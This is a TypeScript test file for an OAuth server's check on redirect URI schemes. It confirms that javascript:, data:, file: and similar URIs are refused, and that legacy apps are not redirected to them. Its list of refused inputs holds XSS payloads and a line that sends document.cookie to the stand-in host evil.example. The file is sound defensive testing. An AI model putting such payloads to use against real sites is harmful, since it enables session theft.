import { domainErrors } from '@baton/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BatonError } from '../../src/core/errors.js';
import type { App } from '../../src/core/model.js';
import { engines } from '../support/databases.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { authorizeUrl, newPkce, titleOf, WebClient } from '../web/web-client.js';

/**
 * Finding 9 (redirect URIs): an app could be registered with a redirect URI such as
 * `javascript:...` or `data:...`, and the authorization endpoint would then send the
 * user's browser there with a fresh code. Only https, http on a loopback address and
 * RFC 8252 private-use schemes (with a dot) are accepted, for sign-in and for logout;
 * an app stored before the rule keeps its row, but a URI the rule refuses is never used.
 */
describe.each(engines)('redirect URI schemes on %s', (engine) => {
  let t: TestServer;
  beforeAll(async () => {
    t = await startTestServer({ engine });
  });
  afterAll(async () => {
    await t?.close();
  });

  const refused = [
    ['javascript:', 'javascript:alert(document.domain)//'],
    ['javascript: in capitals', 'JavaScript:fetch("https://evil.example/"+document.cookie)'],
    ['data:', 'data:text/html,<script>alert(1)</script>'],
    ['vbscript:', 'vbscript:msgbox(1)'],
    ['file:', 'file:///etc/passwd'],
    ['http on a public host', 'http://shop.example/callback'],
    ['http on a host named like loopback', 'http://localhost.evil.example/callback'],
    ['a private-use scheme without a dot', 'myapp:/callback'],
    ['a fragment', 'https://shop.example/callback#x'],
    ['not a URI', 'callback'],
  ];

  it.each(refused)('%s is refused at registration, as a redirect URI and as a post-logout one', async (_case, uri) => {
    for (const input of [{ redirectUris: [uri] }, { postLogoutRedirectUris: [uri] }]) {
      const attempt = t.registerApp({ name: 'Hostile app', ...input });
      await expect(attempt).rejects.toBeInstanceOf(BatonError);
      const refused = (await attempt.catch((error: unknown) => error)) as BatonError;
      expect({ error: domainErrors[refused.code].oauth, description: refused.description }).toMatchObject({
        error: 'invalid_request',
        description: expect.stringContaining(uri),
      });
    }
    const names = (await t.services.repos.apps.list(t.tenant.id)).map((a) => a.name);
    expect(names).not.toContain('Hostile app');
  });

  it.each([
    ['https', 'https://shop.example/callback'],
    ['http on 127.0.0.1 with a port', 'http://127.0.0.1:51004/callback'],
    ['http on [::1]', 'http://[::1]:8400/cb'],
    ['http on localhost', 'http://localhost:3000/callback'],
    ['an RFC 8252 private-use scheme', 'com.example.app:/oauth2redirect'],
    ['a private-use scheme with an authority', 'com.example.phone://auth'],
  ])('%s is accepted', async (_case, uri) => {
    const { app } = await t.registerApp({ name: 'Good app', redirectUris: [uri], postLogoutRedirectUris: [uri] });
    expect(app.redirectUris).toEqual([uri]);
  });

  describe('an app stored before the rule', () => {
    let legacy: App;
    beforeAll(async () => {
      const { app } = await t.registerApp({ name: 'Legacy app', redirectUris: ['https://shop.example/callback'] });
      // As an older Baton stored it: the registration check was not there yet.
      legacy = {
        ...app,
        clientId: crypto.randomUUID(),
        redirectUris: ['javascript:alert(1)//', 'https://shop.example/callback'],
        postLogoutRedirectUris: ['data:text/html,bye'],
      };
      await t.services.repos.apps.create(legacy);
    });

    it('is never sent to a refused redirect URI: the authorization endpoint shows its error page', async () => {
      const page = await new WebClient(t.url).get(
        authorizeUrl(t, legacy, newPkce(), { redirect_uri: 'javascript:alert(1)//' }),
      );
      expect(page.status, page.html.slice(0, 300)).toBe(400);
      expect(page.location).toBeNull();
      expect(titleOf(page)).toBe('Something went wrong');
      expect(page.html).not.toContain('javascript:alert');
    });

    it('still signs in to its acceptable redirect URI', async () => {
      const page = await new WebClient(t.url).get(
        authorizeUrl(t, legacy, newPkce(), { redirect_uri: 'https://shop.example/callback' }),
      );
      expect(page.status, page.html.slice(0, 300)).toBe(200);
    });

    it('is not sent back to a refused post-logout redirect URI', async () => {
      const url = new URL(`${t.base}/oauth2/v2.0/logout`);
      url.searchParams.set('client_id', legacy.clientId);
      url.searchParams.set('post_logout_redirect_uri', 'data:text/html,bye');
      const page = await new WebClient(t.url).get(url.toString());
      expect(page.location).toBeNull();
      expect(page.status).toBe(200);
    });
  });
});
